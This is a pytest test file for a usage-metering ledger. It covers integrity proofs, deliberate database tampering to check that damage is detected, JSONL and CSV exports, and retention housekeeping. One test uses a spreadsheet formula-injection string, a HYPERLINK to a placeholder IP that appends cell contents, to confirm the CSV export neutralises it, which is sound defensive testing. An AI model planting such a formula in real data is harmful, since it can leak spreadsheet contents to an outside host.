"""Proof, export and housekeeping of the ledger, on both databases: sound books pass, each kind of damage is found."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import tracemalloc
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlalchemy import text, update
from sqlalchemy.ext.asyncio import AsyncEngine

from inkgate.service.db import ids, work
from inkgate.service.errors import Misuse
from inkgate.service.metering import housekeeping, ledger_reader
from inkgate.service.metering.models import MeterRow, PackRow
from inkgate.service.metering.reconciliation import ReconciliationState
from inkgate.service.metering.verify import Finding, LineFact, MeterFact, Verifier
from inkgate.service.orders import refunds
from inkgate.service.orders import service as orders
from inkgate.service.settings import Ledger
from inkgate.service.usage.models import RecordRow
from tests.money import START, House


async def prove(house: House) -> list[Finding]:
    async with work.snapshot(house.engine) as session:
        return await ledger_reader.verify_database(session)


async def busy_life(house: House) -> None:
    """Packs bought, bound, spanned, expired, refunded and approved late, with calls in between."""
    other = await house.another_app()
    ledger = house.ledger()
    await house.grant(5, app_id=other.app_id)
    await house.grant(5, ends_at=START + timedelta(hours=1))
    await house.grant(7)
    await ledger.settle(house.call(7))
    async with work.begin(house.engine, "test", house.clock) as unit:
        late = await orders.place_order(unit, house.account_id, {"general-100k": 1}, approval="operator")
    house.clock.pass_(seconds=1)
    async with work.begin(house.engine, "test", house.clock) as unit:
        soon = await orders.place_order(unit, house.account_id, {"general-1m": 1}, approval="immediate")
    await ledger.settle(house.call(10))
    async with work.begin(house.engine, "test", house.clock) as unit:
        await orders.approve_order(unit, late.number)
    await ledger.settle(house.call(3))
    await ledger.settle(house.call(1, capability="licence"))
    await ledger.settle(house.call(0, code=500001))
    await ledger.settle(house.call(7, app_id=other.app_id))
    async with work.begin(house.engine, "test", house.clock) as unit:
        again = await orders.place_order(unit, house.account_id, {"plate-100k": 2}, approval="immediate")
        pack = next(each for each in await ledger_reader.packs(unit.session) if each.capability == "plate")
        await refunds.request_refund(unit, pack.id, decision="automatic")
    await ledger.settle(house.call(2, capability="plate"))
    house.clock.pass_(hours=2)
    await ledger.settle(house.call(1, app_id=other.app_id))
    assert soon.state == again.state == "active"


async def test_sound_books_pass(house: House) -> None:
    await busy_life(house)
    assert await house.count() > 8
    assert await prove(house) == []


DAMAGE = {
    "units": "UPDATE pack SET used = used - 1, exhausted_at = NULL WHERE id = (SELECT pack_id FROM usage_record "
    "WHERE units = 3)",
    "tiling": "UPDATE usage_record SET first_unit = first_unit + 1 WHERE units = 3",
    "duplicate": "UPDATE usage_record SET line = 3 WHERE line = 1",
    "sequence": "DELETE FROM usage_record WHERE code = 500001",
    "validity": "UPDATE pack SET starts_at = ends_at WHERE capability = 'plate' AND used > 0",
    "pack": "UPDATE usage_record SET app_id = (SELECT id FROM app WHERE name = 'house_app') WHERE line = 0 AND pack_id "
    "IN (SELECT id FROM pack WHERE app_id IS NOT NULL)",
}


@pytest.mark.parametrize("kind", DAMAGE)
async def test_damage_is_found_and_named(house: House, engine: AsyncEngine, kind: str) -> None:
    await busy_life(house)
    statement = DAMAGE[kind]
    if kind == "validity":
        later = "ends_at + interval '1 day'" if engine.dialect.name == "postgresql" else "datetime(ends_at, '+1 day')"
        statement = statement.replace("starts_at = ends_at", f"starts_at = ends_at, ends_at = {later}")
    async with engine.begin() as connection:
        result = await connection.execute(text(statement))
        assert result.rowcount >= 1
    assert kind in {finding.kind for finding in await prove(house)}


async def test_drawing_on_a_later_pack_first_is_found(house: House) -> None:
    first, second = await house.grant(5), await house.grant(5)
    await house.ledger().settle(house.call(2))
    async with house.engine.begin() as connection:
        await connection.execute(update(RecordRow).values(pack_id=second))
        await connection.execute(update(PackRow).where(PackRow.id == first).values(used=0))
        await connection.execute(update(PackRow).where(PackRow.id == second).values(used=2))
    assert [(finding.kind, first in finding.what) for finding in await prove(house)] == [("order", True)]


async def test_lines_of_no_meter_are_found_on_whatever_day(house: House) -> None:
    await house.grant(50)
    for age in (400, 3, 3, 0):
        call = house.call(1, call_id=old_id(START.date() - timedelta(days=age)))
        await house.ledger().settle(call)
    async with house.engine.begin() as connection:
        await connection.execute(text("UPDATE usage_record SET capability = 'stray' WHERE seq <> 2"))
    assert any(finding.what == "3 lines belong to no meter" for finding in await prove(house))


async def test_a_proof_may_be_of_one_capability_and_end_early(house: House) -> None:
    await busy_life(house)
    async with house.engine.begin() as connection:
        await connection.execute(text("UPDATE usage_record SET line = line + 5 WHERE capability = 'general'"))
    async with work.snapshot(house.engine) as session:
        assert await ledger_reader.verify_database(session, house.account_id, "plate") == []
        assert len(await ledger_reader.verify_database(session, house.account_id, "general", max_findings=3)) == 3
        assert len(await ledger_reader.verify_database(session, max_findings=3)) == 3


async def test_a_proof_tells_how_far_it_is(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    await busy_life(house)
    monkeypatch.setattr(ledger_reader, "PROGRESS_EVERY_LINES", 4)
    told: list[int] = []
    async with work.snapshot(house.engine) as session:
        assert await ledger_reader.verify_database(session, on_progress=told.append) == []
    assert told == list(range(4, await house.count() + 1, 4)) != []


def test_lines_of_the_database_are_verified_without_holding_them() -> None:
    meter, count = MeterFact("a", "licence", 40_000, 0), 40_000
    held = []
    for unique in (True, False):
        verifier = Verifier([], [meter], unique=unique)
        tracemalloc.start()
        for seq in range(1, count + 1):
            line = LineFact(f"{seq:032x}", 0, seq, START, "a", "licence", "app", None, None, 0)
            assert list(verifier.line(line)) == []
        held.append(tracemalloc.get_traced_memory()[0])
        tracemalloc.stop()
        assert list(verifier.finish()) == []
    assert held[0] < 20_000 < 1_000_000 < held[1]  # bytes


async def test_a_meter_that_forgot_is_found(house: House) -> None:
    await house.grant(5)
    await house.ledger().settle(house.call())
    async with house.engine.begin() as connection:
        await connection.execute(update(MeterRow).values(seq=5))
    assert [finding.kind for finding in await prove(house)] == ["sequence"]


async def test_an_export_proves_itself(house: House, tmp_path: Path) -> None:
    await busy_life(house)
    path = tmp_path / "ledger.jsonl"
    async with work.snapshot(house.engine) as session:
        with path.open("w") as out:
            count = await ledger_reader.export_json(session, out, house.account_id)
    assert count == await house.count()
    assert ledger_reader.verify_file(path) == []
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    again = [row for row in rows if row["kind"] == "line" and row["facts"]["units"] == 3]
    path.write_text("\n".join(json.dumps(row) for row in rows + again))
    assert {"duplicate", "tiling", "units"} <= {finding.kind for finding in ledger_reader.verify_file(path)}


async def test_an_export_of_a_period_is_held_against_itself_alone(house: House, tmp_path: Path) -> None:
    await busy_life(house)
    path = tmp_path / "ledger.jsonl"
    async with work.snapshot(house.engine) as session:
        with path.open("w") as out:
            count = await ledger_reader.export_json(session, out, house.account_id, since=START + timedelta(hours=1))
    assert 0 < count < await house.count()
    assert ledger_reader.verify_file(path) == []


async def test_an_export_as_csv(house: House) -> None:
    await busy_life(house)
    out = io.StringIO()
    async with work.snapshot(house.engine) as session:
        count = await ledger_reader.export_csv(session, out, house.account_id)
    rows = out.getvalue().splitlines()
    assert rows[0].startswith("call_id,line,seq,settled_at") and len(rows) == count + 1


async def test_a_clients_request_id_is_no_formula_in_an_export(house: House) -> None:
    await house.grant(5)
    sent = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
    await house.ledger().settle(replace(house.call(1), request_id=sent))
    out = io.StringIO(newline="")
    async with work.snapshot(house.engine) as session:
        await ledger_reader.export_csv(session, out, house.account_id)
    head, line = csv.reader(io.StringIO(out.getvalue(), newline=""))
    row = dict(zip(head, line, strict=True))
    assert (row["request_id"], row["settled_at"]) == ("'" + sent, START.replace(second=1).isoformat())


@pytest.mark.parametrize("content", ["", "{}", "not json", '{"kind": "ledger"}\n{"kind": "pack"}'])
def test_a_file_that_is_no_export_is_refused(tmp_path: Path, content: str) -> None:
    path = tmp_path / "file"
    path.write_text(content)
    with pytest.raises(Misuse):
        ledger_reader.verify_file(path)


def old_id(day: date) -> str:
    """A call id made on `day`."""
    return ids.day_floor(day)[:14] + ids.new()[14:]


async def test_retention_drops_lines_and_keeps_the_proof(house: House) -> None:
    today = START.date()
    await house.grant(20)
    ledger = house.ledger()
    for age in (30, 20, 10, 0):
        await ledger.settle(house.call(3, call_id=old_id(today - timedelta(days=age))))
    assert await housekeeping.apply_retention(house.engine, today - timedelta(days=15)) == 2
    assert await house.count() == 2
    assert await prove(house) == []
    await ledger.settle(house.call(4, call_id=old_id(today)))
    assert await prove(house) == []
    async with house.engine.begin() as connection:
        await connection.execute(text("DELETE FROM usage_record WHERE units = 4"))
    assert {finding.kind for finding in await prove(house)} == {"units", "sequence"}


async def test_a_round_of_housekeeping(house: House) -> None:
    today = START.date()
    await house.grant(20)
    ledger = house.ledger()
    await ledger.settle(house.call(1, call_id=old_id(today - timedelta(days=40))))
    await ledger.settle(house.call(2, call_id=old_id(today + timedelta(days=1))))
    reported: list[ReconciliationState] = []
    keeper = housekeeping.Housekeeper(house.engine, Ledger(retention_days=30), reported.append, clock=house.clock)
    assert (await keeper.run_round()).drift == 0
    assert (await keeper.run_round()).drift == 0  # again: nothing to do
    assert [(each.drift, each.backlog) for each in reported] == [(0, 0), (0, 0)]
    assert (await house.count(), await prove(house)) == (1, [])
    if house.engine.dialect.name == "postgresql":
        query = f"SELECT count(*) FROM {housekeeping.partition(today + timedelta(days=1))}"
        async with house.engine.connect() as connection:
            assert await connection.scalar(text(query)) == 1  # it had waited in the default partition
            assert await connection.scalar(text("SELECT count(*) FROM usage_record_default")) == 0


async def test_housekeeping_does_not_wait_for_a_long_read(house: House) -> None:
    keeper = housekeeping.Housekeeper(house.engine, Ledger(), lambda found: None, clock=house.clock)
    await house.grant(5)
    house.clock.pass_(days=3000)  # days that have no partition yet
    async with work.snapshot(house.engine) as session:
        await ledger_reader.verify_database(session)  # the snapshot goes on, and with it its locks
        async with asyncio.timeout(10):
            assert (await keeper.run_round()).drift == 0
            await house.ledger().settle(house.call(0))


async def test_the_housekeeper_runs_until_it_is_closed(house: House) -> None:
    reported: list[ReconciliationState] = []
    keeper = housekeeping.Housekeeper(house.engine, Ledger(housekeeping_minutes=1e-4), reported.append)
    await keeper.start()
    while len(reported) < 2:
        await asyncio.sleep(0.01)
    await keeper.close()
    assert {each.drift for each in reported} == {0}
